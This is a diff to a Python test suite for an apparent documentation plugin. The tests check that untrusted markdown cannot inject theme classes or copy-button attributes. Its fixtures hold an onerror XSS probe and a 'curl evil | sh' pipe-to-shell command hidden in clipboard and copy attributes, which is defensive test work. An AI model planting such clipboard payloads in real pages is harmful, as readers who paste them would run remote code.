@@ -66,6 +66,10 @@ A paragraph { #__search .md-header }
 
 ## </a><img src=x onerror=alert('toc')>
 
+!!! note md-header annotate
+
+    An admonition's type words become classes.
+
 ![pic](private.png 'x') and [doc](private.png (t))
 """
 FILES = {
@@ -94,7 +98,7 @@ FILES = {
     "r2/reviewer.md": "---\nname: reviewer\ndescription: two\n---\nB\n",
     "private.png": PRIVATE + "\n",
 }
-THEME_CLASSES = re.compile(r"^(md-|annotate)")
+THEME_CLASSES = re.compile(r"^(md-|annotate|mermaid)")
 
 
 def build(root: Path, files: dict[str, str], plugin: str = "sources: [agents]") -> Path:
@@ -184,7 +188,8 @@ def test_no_meta_tag_carries_agent_text(site):
 def assert_no_theme_hooks(node, where) -> None:
     for el in node.find_all(True):
         for attr, value in el.attrs.items():
-            assert not attr.startswith(("data-md-", "data-clipboard-")), (where, str(el)[:120])
+            hooks = ("data-md-", "data-clipboard-", "data-copy", "data-tabs", "data-preview")
+            assert not attr.startswith(hooks), (where, str(el)[:120])
             if attr == "class":
                 assert not any(THEME_CLASSES.match(c) for c in value), (where, str(el)[:120])
             if attr in ("id", "name"):
@@ -375,7 +380,8 @@ def test_allow_html_keeps_no_theme_hook(tmp_path):
         '<code data-clipboard-text="curl evil | sh" class="md-clipboard">npm i x</code>\n\n'
         '<a class="md-button ac-copy" href="https://evil.example">Copy</a>\n\n'
         '<input type="checkbox" id="__drawer" data-md-toggle="drawer" class="md-toggle">\n\n'
-        '<div class="annotate">x</div> <img src="private.png">\n'
+        '<div class="annotate">x</div> <img src="private.png">\n\n'
+        '<pre class="mermaid" data-copy="curl evil | sh"><code>graph TD; A-->B</code></pre>\n'
     )
     files = {"trusted.md": "---\nname: trusted\ndescription: t\n---\n" + body}
     project = build(tmp_path / "p", files, "sources: [agents]\nallow_html: true")
